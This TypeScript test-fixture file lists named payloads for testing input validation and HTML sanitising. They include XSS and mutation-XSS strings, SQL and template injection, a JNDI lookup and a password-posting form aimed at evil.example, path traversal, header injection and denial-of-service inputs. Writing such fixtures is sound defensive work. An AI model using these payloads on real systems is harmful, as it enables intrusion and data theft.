import type { Payload } from '../pair.ts';

const FAMILY = '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}';

/** Characters no text may hold, whichever field it is. */
export const forbiddenTexts: readonly Payload[] = [
  { name: 'NUL', value: 'ab\u0000cd-and-more' },
  { name: 'escape', value: 'ab\u001b[31mcd-more' },
  { name: 'delete', value: 'ab\u007fcd-and-more' },
  { name: 'C1 control', value: 'ab\u0085cd-and-more' },
  { name: 'carriage return', value: 'ab\rcd-and-more' },
  { name: 'right-to-left override', value: 'ab\u202egnp.exe-more' },
  { name: 'left-to-right override', value: 'ab\u202dcd-and-more' },
  { name: 'bidi isolate', value: 'ab\u2066cd\u2069-and-more' },
  { name: 'right-to-left mark', value: 'ab\u200fcd-and-more' },
  { name: 'Arabic letter mark', value: 'ab\u061ccd-and-more' },
  { name: 'lone high surrogate', value: 'ab\ud800cd-and-more' },
  { name: 'lone low surrogate', value: 'ab\udfffcd-and-more' },
  { name: 'swapped surrogates', value: 'ab\udc00\ud800cd-more' },
  { name: '5,000 combining marks', value: `a${'\u0301'.repeat(5_000)}` },
  { name: 'nine combining marks', value: `abcdefghijklm${'\u0316'.repeat(9)}` },
];

/** Forbidden where a text is one line. */
export const brokenLines: readonly Payload[] = [
  { name: 'line feed', value: 'ab\ncd-and-more' },
  { name: 'tab', value: 'ab\tcd-and-more' },
  { name: 'line separator', value: 'ab\u2028cd-and-more' },
  { name: 'mail header', value: 'ab\r\nBcc: victim@example.com' },
];

/** Nothing anybody could see. */
export const invisibleTexts: readonly Payload[] = [
  { name: 'zero width space', value: '\u200b' },
  { name: 'zero width joiners', value: '\u200d\u200c\ufeff' },
  { name: 'soft hyphens', value: '\u00ad\u00ad' },
  { name: 'Hangul fillers', value: '\u3164\u115f' },
  { name: 'tag characters', value: '\u{e0041}\u{e0042}' },
];

/** Means something to a machine somewhere, and nothing here. All below 60 characters. */
export const inertTexts: readonly Payload[] = [
  { name: 'script', value: '<script>alert(1)</script>' },
  { name: 'image with a handler', value: '"><img src=x onerror=alert(1)>' },
  { name: 'SQL', value: "'; DROP TABLE users; --" },
  { name: 'operator', value: '{"$gt":""}' },
  { name: 'template', value: '{{7*7}}\u0024{7*7}<%=7*7%>#{7*7}' },
  { name: 'log lookup', value: '\u0024{jndi:ldap://evil.example/a}' },
  { name: 'format', value: '%s%s%n%x%00%0d%0a' },
  { name: 'path', value: '../../../../etc/passwd' },
  { name: 'formula', value: '=HYPERLINK("https://evil.example")' },
  { name: 'prototype name', value: '__proto__' },
  { name: 'expression', value: '(a+)+$' },
  { name: 'family and four bytes', value: `${FAMILY} \u{20000} \u{1f3a8}` },
].map((payload) => ({ ...payload, isInert: true }));

/** What a reader may see of an about text is held against the allow-list. */
export const hostileAbouts: readonly Payload[] = [
  { name: 'script', value: '<p>hi</p><script>alert(1)</script>' },
  { name: 'handler', value: '<p onclick="alert(1)" onfocus=alert(2) tabindex=0>hi</p>' },
  { name: 'script address', value: '<p><a href="java&#10;script:alert(1)">hi</a></p>' },
  { name: 'data address', value: '<p><a href="data:text/html,<script>alert(1)</script>">hi</a></p>' },
  { name: 'SVG', value: '<svg><style><img src=x onerror=alert(1)></style></svg><p>hi</p>' },
  {
    name: 'MathML',
    value: '<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">hi',
  },
  { name: 'mutation', value: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">hi' },
  {
    name: 'style',
    value:
      '<style>@import "https://evil.example"</style><p style="background:url(https://evil.example)">hi</p>',
  },
  { name: 'frame', value: '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>' },
  { name: 'form', value: '<form action="https://evil.example"><input name=password></form><p>hi</p>' },
  { name: 'base', value: '<base href="https://evil.example/"><p>hi</p>' },
  { name: 'foreign image', value: '<p>hi<img src="https://evil.example/pixel.gif"></p>' },
  { name: 'clobbering', value: '<p id="location" name="cookie">hi</p>' },
  { name: 'joining mark', value: '<p>&#x338; onclick=alert(1) tabindex=0 autofocus</p>hi' },
  { name: '6,000 nested lists', value: '<ul>'.repeat(4_990) },
  { name: 'nested quotations', value: `${'<blockquote>'.repeat(700)}hi${'</blockquote>'.repeat(700)}` },
  { name: 'open brackets', value: '<'.repeat(4_900) },
  { name: 'open comment', value: `<!--${'-'.repeat(19_000)}` },
  { name: 'ampersands', value: '&'.repeat(3_900) },
  { name: 'attributes', value: `<p ${'a=b '.repeat(4_900)}>hi</p>` },
].map((payload) => ({ ...payload, isInert: true }));

/** Forbidden characters behind character references. */
export const hiddenInAbouts: readonly Payload[] = [
  { name: 'hidden override', value: '<p>a&#8238;b</p>' },
  { name: 'hidden isolate', value: '<p>a&#x2066;b</p>' },
];

export const tooLong = (maxLength: number): Payload[] => [
  { name: 'one character too many', value: 'x'.repeat(maxLength + 1) },
  { name: 'far too many characters', value: '\u00e4'.repeat(maxLength + 5_000) },
];
